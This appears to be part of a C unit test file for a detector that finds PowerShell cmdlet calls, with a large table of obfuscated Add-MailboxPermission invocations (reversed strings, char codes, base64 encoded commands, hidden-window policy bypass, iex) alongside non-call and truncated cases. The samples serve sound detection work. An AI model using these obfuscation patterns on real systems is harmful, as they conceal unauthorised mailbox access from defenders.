    {SCRIPT, "& ('noissimrePxobliaM-ddA'[-1..-21] -join '') m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& (-join ([char[]](65,100,100)) + '-MailboxPermission') m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& ([string]::Join('',('Add-','Mailbox','Permission'))) m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& ([string]::Concat('Add-','MailboxPermission')) m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& ([string]::Format('{0}-{1}','Add','MailboxPermission')) m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& ('Add#MailboxPermission'.Replace('#','-')) m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& ('Add#MailboxPermission' -replace '#','-') m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& ('zzAdd-MailboxPermission'.Substring(2)) m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& (('Add','MailboxPermission') -join '-') m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& (('Add|MailboxPermission' -split '\\|') -join '-') m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& ([char]65 + 'dd-MailboxPermission') m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& \"$([char]0x41)dd-MailboxPermission\" m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "$c='Add-MailboxPermission'; & $c m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "$a='Add-';$b='MailboxPermission';& \"$a$b\" m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "&(gcm Add-MailboxPermission) m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "&(gcm *dd-M*xPerm*) m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "& ([scriptblock]::Create('Add-MailboxPermission m -User u'))",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "[scriptblock]::Create('Add-MailboxPermission m -User u').Invoke()",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT,
     "iex "
     "([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
     "QWRkLU1haWxib3hQZXJtaXNzaW9uIG0gLVVzZXIgdQ==')))",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT,
     "iex "
     "([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('"
     "QQBkAGQALQBNAGEAaQBsAGIAbwB4AFAAZQByAG0AaQBzAHMAaQBvAG4AIABtACAALQBVAHMAZQByACAAdQA=')))",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT,
     "$x='A','d','d'; [array]::Reverse($x); $n=[string]::Join('',$x); Add-MailboxPermission $n "
     "-User u",
     "Add-MailboxPermission Identity=ddA User=u ~obfuscated"},
    {SCRIPT, "$ExecutionContext.InvokeCommand.InvokeScript('Add-MailboxPermission m -User u')",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT,
     "powershell -NoP -Enc "
     "QQBkAGQALQBNAGEAaQBsAGIAbwB4AFAAZQByAG0AaQBzAHMAaQBvAG4AIABtACAALQBVAHMAZQByACAAdQA=",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "Start-Process pwsh -ArgumentList '-c \"Add-MailboxPermission m -User u\"'",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "Add-MailboxPermission m -User ('u'+'@x.example')",
     "Add-MailboxPermission Identity=m User=u@x.example ~obfuscated"},
    {SCRIPT, "Add-MailboxPermission m -User ('u{0}' -f 1) -AccessRights ('Full'+'Access')",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u1 ~obfuscated"},
    /* command lines */
    {LINE, "powershell.exe -Command Add-MailboxPermission m -User u",
     "Add-MailboxPermission Identity=m User=u"},
    {LINE,
     "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile "
     "-ExecutionPolicy Bypass -c \"Add-MailboxPermission m -User 'a b'\"",
     "Add-MailboxPermission Identity=m User=a b"},
    {LINE,
     "powershell -e "
     "QQBkAGQALQBNAGEAaQBsAGIAbwB4AFAAZQByAG0AaQBzAHMAaQBvAG4AIABtACAALQBVAHMAZQByACAAdQA=",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {LINE,
     "powershell -ec "
     "QQBkAGQALQBNAGEAaQBsAGIAbwB4AFAAZQByAG0AaQBzAHMAaQBvAG4AIABtACAALQBVAHMAZQByACAAdQA=",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {LINE,
     "powershell /EncodedCommand "
     "QQBkAGQALQBNAGEAaQBsAGIAbwB4AFAAZQByAG0AaQBzAHMAaQBvAG4AIABtACAALQBVAHMAZQByACAAdQA=",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {LINE,
     "pwsh \xe2\x80\x93"
     "enco QQBkAGQALQBNAGEAaQBsAGIAbwB4AFAAZQByAG0AaQBzAHMAaQBvAG4AIABtACAALQBVAHMAZQByACAAdQA=",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {LINE,
     "powershell -w hidden -nop -noni -ep bypass -EncodedC "
     "QQBkAGQALQBNAGEAaQBsAGIAbwB4AFAAZQByAG0AaQBzAHMAaQBvAG4AIABtACAALQBVAHMAZQByACAAdQA=",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {LINE,
     "cmd.exe /c powershell -e "
     "QQBkAGQALQBNAGEAaQBsAGIAbwB4AFAAZQByAG0AaQBzAHMAaQBvAG4AIABtACAALQBVAHMAZQByACAAdQA=",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {LINE,
     "cmd /c \"powershell -nop -e "
     "QQBkAGQALQBNAGEAaQBsAGIAbwB4AFAAZQByAG0AaQBzAHMAaQBvAG4AIABtACAALQBVAHMAZQByACAAdQA=\"",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {LINE, "powershell \"& {Add-MailboxPermission m -User u}\"",
     "Add-MailboxPermission Identity=m User=u"},
    {LINE, "powershell Add-MailboxPermission m -User u", "Add-MailboxPermission Identity=m User=u"},
    {LINE, "pwsh -File C:\\x.ps1 Add-MailboxPermission", ""},
    {LINE, "powershell -File x.ps1 -Command Add-MailboxPermission m", ""},
    {LINE, "cmd /c echo Add-MailboxPermission m -User u", ""},
    {LINE, "notepad.exe Add-MailboxPermission.txt", ""},
    {LINE, "powershell -e not*base64", ""},
    {LINE, "powershell -c \"\\\"Add-MailboxPermission m\\\"\"", ""},
    /* not a call */
    {SCRIPT, "", ""},
    {SCRIPT, "'Add-MailboxPermission m -User u'", ""},
    {SCRIPT, "\"Add-MailboxPermission m -User u\"", ""},
    {SCRIPT, "Write-Host 'Add-MailboxPermission m -User u'", ""},
    {SCRIPT, "Write-Host Add-MailboxPermission m -User u", ""},
    {SCRIPT, "# Add-MailboxPermission m -User u", ""},
    {SCRIPT, "<#\n.EXAMPLE\nAdd-MailboxPermission m -User u\n#>", ""},
    {SCRIPT, "@'\nAdd-MailboxPermission m -User u\n'@", ""},
    {SCRIPT, "$h=@{ 'Add-MailboxPermission' = 1; AddMailboxPermission = 'x' }", ""},
    {SCRIPT, "$h=@{Cmdlet='Add-MailboxPermission'}", ""},
    {SCRIPT, "function Grant { Add-MailboxPermission m -User u }", ""},
    {SCRIPT, "function script:Add-MailboxPermission { param($Identity) process { $x = 1 } }", ""},
    {SCRIPT,
     "function global:Add-MailboxPermission {\n [CmdletBinding()] "
     "param([Parameter(Mandatory=$true)]$Identity, $User)\n $c = Get-PSImplicitRemotingSession "
     "-CommandName 'Add-MailboxPermission'\n & $script:x -Name 'Add-MailboxPermission'\n # "
     ".ForwardHelpTargetName Add-MailboxPermission\n}",
     ""},
    {SCRIPT, "filter f { Add-MailboxPermission $_ -User u }", ""},
    {SCRIPT, "$b = { Add-MailboxPermission m -User u }", ""},
    {SCRIPT, "if ($false) { Add-MailboxPermission m -User u }", ""},
    {SCRIPT, "return; Add-MailboxPermission m -User u", ""},
    {SCRIPT, "exit 0\nAdd-MailboxPermission m -User u", ""},
    {SCRIPT, "Get-Command Add-MailboxPermission", ""},
    {SCRIPT, "Get-Help Add-MailboxPermission -Full", ""},
    {SCRIPT, "gcm Add-Mailbox*", ""},
    {SCRIPT, "Set-MailboxPermission m -User u", ""},
    {SCRIPT, "Set-ADUser m -Description x", ""},
    {SCRIPT, "Set-LocalUser m", ""},
    {SCRIPT, "Add-MailboxPermissionX m -User u", ""},
    {SCRIPT, "xAdd-MailboxPermission m", ""},
    {SCRIPT, "iex '\"Add-MailboxPermission m\"'", ""},
    {SCRIPT, "Search-UnifiedAuditLogX -Operations Add-MailboxPermission", ""},
    {SCRIPT, "$x.'Add-MailboxPermission'", ""},
    {SCRIPT, "while ($false) { Add-MailboxPermission m -User u }", ""},
    {SCRIPT, "echo --% Add-MailboxPermission m", ""},
    {SCRIPT, "throw 'x'\nAdd-MailboxPermission m -User u", ""},
    {SCRIPT, "class C { [void] Run() { Add-MailboxPermission m -User u } }", ""},
    {SCRIPT, "trap { Add-MailboxPermission m -User u }", ""},
    {SCRIPT, "data { 'Add-MailboxPermission' }", ""},
    {SCRIPT,
     "Search-UnifiedAuditLog -Operations 'Add-MailboxPermission' -StartDate 1/1/2024 -EndDate "
     "1/2/2024",
     "Search-UnifiedAuditLog EndDate=1/2/2024 Operations=Add-MailboxPermission StartDate=1/1/2024"},
    /* broken and cut */
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights FullAccess\nWrite-Host 'open",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u ~attempt"},
    {SCRIPT, "Add-MailboxPermission m -User u }",
     "Add-MailboxPermission Identity=m User=u ~attempt"},
    {SCRIPT, "if ($x) { Add-MailboxPermission m -User u",
     "Add-MailboxPermission Identity=m User=u ~attempt"},
    {SCRIPT, "Add-MailboxPermission m -User u\n)",
     "Add-MailboxPermission Identity=m User=u ~attempt"},
    {CUT, "Add-MailboxPermission m -User u\nWrite-Host 'open",
     "Add-MailboxPermission Identity=m User=u"},
    {CUT, "if ($x) { Add-MailboxPermission m -User u\n $y",
     "Add-MailboxPermission Identity=m User=u"},
    {CUT, "Add-MailboxPermission m -User u -AccessRi",
     "Add-MailboxPermission Identity=m User=u ~ambiguous"},
    {CUT, "Add-MailboxPermission m -User 'P.Oka",
     "Add-MailboxPermission Identity=m User%=P.Oka ~ambiguous"},
    {CUT, "Add-MailboxPermission m -User u; Remove-MailboxPer",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "<# Add-MailboxPermission m -User u", ""},
    {SCRIPT, "Add-MailboxPermission m -User u @'\nabc",
     "Add-MailboxPermission *= Identity=m User=u ~attempt"},
};

static void test_texts_give_the_calls_they_make(void **s) {
    (void)s;
    size_t wrong = 0;
    for (size_t i = 0; i < sizeof TEXTS / sizeof *TEXTS; i++) {
        struct arena *a = arena_new(0);
        struct buf got = {0};
        struct powershell_text text = {.text = str_from(TEXTS[i].text),
                                       .command_line = TEXTS[i].kind == LINE,
                                       .cut = TEXTS[i].kind == CUT};
        struct call *calls;
        size_t count = powershell_calls(a, &text, &calls);
        render_calls(&got, calls, count);
        if (!str_eq(buf_str(&got), str_from(TEXTS[i].calls))) {
            print_error("%s\n  want %s\n  got  %.*s\n", TEXTS[i].text, TEXTS[i].calls,
                        STR_ARG(buf_str(&got)));
            wrong++;
        }
        buf_free(&got);
        arena_free(a);
    }
    assert_int_equal(wrong, 0);
}

static void test_offsets_are_those_of_the_outermost_text(void **s) {
    (void)s;
    struct arena *a = arena_new(0);
    struct call *calls;
    struct powershell_text text = {
        .text = STR("  Add-MailboxPermission m -User u ; iex 'Remove-MailboxPermission m'")};
    assert_int_equal(powershell_calls(a, &text, &calls), 2);
    assert_int_equal(calls[0].at, 2);
    assert_int_equal(calls[0].end, 33);
    assert_true(str_eq(calls[0].written, STR("Add-MailboxPermission")));
    assert_int_equal(calls[1].at, 36);
    assert_int_equal(calls[1].end, text.text.n);
    assert_true(calls[1].obfuscated);
    assert_true(calls[1].note.n > 0);
    arena_free(a);
}

static void test_a_syntax_error_is_named(void **s) {
    (void)s;
    struct arena *a = arena_new(0);
    struct call *calls;
    struct powershell_text text = {.text = STR("Remove-MailboxPermission m; 'open")};
    assert_int_equal(powershell_calls(a, &text, &calls), 1);
    assert_true(calls[0].attempt);
    assert_true(str_ifind(calls[0].note, STR("byte 28")) != STR_ABSENT);
    arena_free(a);
}

static void test_work_is_bounded_and_says_so(void **s) {
    (void)s;
    struct arena *a = arena_new(0);
    struct call *calls;
    struct powershell_text text = {
        .text = STR("foreach ($a in 1..1000) { foreach ($b in 1..1000) { foreach ($c in 1..1000) {"
                    "Add-MailboxPermission m -User u } } }")};
    size_t count = powershell_calls(a, &text, &calls);
    assert_in_range(count, 1, 100000);
    assert_true(str_ifind(calls[count - 1].note, STR("not followed")) != STR_ABSENT);
    arena_free(a);
}

/* Not in the repository: ../shared/data/exchange, a set-up log that holds calls as text of strings
 * and of a script block whose cmdlet never ran. Skipped where it is absent. */
static void test_a_setup_log_is_read_as_text_only(void **s) {
    (void)s;
    FILE *f = fopen("../shared/data/exchange/ExchangeSetup_Failed_Mount_Database.log", "rb");
    if (!f) skip();
    struct arena *a = arena_new(0);
    struct buf log = {0};
    char piece[65536];
    for (size_t n; (n = fread(piece, 1, sizeof piece, f)) > 0;) buf_add(&log, str_of(piece, n));
    fclose(f);
    struct call *calls;
    struct powershell_text text = {.text = buf_str(&log)};
    size_t count = powershell_calls(a, &text, &calls);
    for (size_t i = 0; i < count; i++) assert_true(calls[i].attempt);
    buf_free(&log);
    arena_free(a);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_texts_give_the_calls_they_make),
        cmocka_unit_test(test_offsets_are_those_of_the_outermost_text),
        cmocka_unit_test(test_a_syntax_error_is_named),
        cmocka_unit_test(test_work_is_bounded_and_says_so),
        cmocka_unit_test(test_a_setup_log_is_read_as_text_only),
    };
    return cmocka_run_group_tests_name("powershell: calls", tests, NULL, NULL);
}
